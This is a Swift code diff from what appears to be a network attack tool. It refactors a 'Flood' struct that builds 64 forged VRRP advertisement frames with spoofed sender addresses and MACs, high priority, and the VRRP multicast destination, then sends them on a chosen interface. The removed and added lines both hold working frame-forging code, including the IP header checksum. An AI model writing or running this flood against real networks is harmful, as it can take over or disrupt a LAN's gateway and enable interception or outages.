@@ -10,7 +10,10 @@ struct Flood {
   init(on interface: String) throws {
     self.interface = Int32(if_nametoindex(interface))
     frames = (UInt8(0)..<64).map { number in
-      Self.frame(sender: 100 + number, id: number % 4 == 0 ? 51 : 60 + number)
+      let id = number % 4 == 0 ? 51 : 60 + number
+      return ForgedAdvertisement(
+        sender: 100 + number, message: [0x31, id, 200, 1, 0, 10, 0xDE, 0xAD, 10, 1, 0, 100]
+      ).frame
     }
   }
 
@@ -27,20 +30,5 @@ struct Flood {
       count += frames.count
     }
     return count
-  }
-
-  private static func frame(sender: UInt8, id: UInt8) -> [UInt8] {
-    let message: [UInt8] = [0x31, id, 200, 1, 0, 10, 0xDE, 0xAD, 10, 1, 0, 100]
-    var header: [UInt8] = [0x45, 0xC0, 0, UInt8(20 + message.count), 0, 0, 0, 0, 255, 112, 0, 0]
-    header += [10, 1, 0, sender, 224, 0, 0, 18]
-    var sum: UInt32 = 0
-    for index in stride(from: 0, to: 20, by: 2) {
-      sum += UInt32(header[index]) << 8
-      sum += UInt32(header[index + 1])
-    }
-    while sum >> 16 != 0 { sum = sum & 0xFFFF + sum >> 16 }
-    header[10] = UInt8(truncatingIfNeeded: ~sum >> 8)
-    header[11] = UInt8(truncatingIfNeeded: ~sum)
-    return [0x01, 0x00, 0x5E, 0, 0, 18, 2, 0, 0, 0, 0, sender, 0x08, 0x00] + header + message
   }
 }
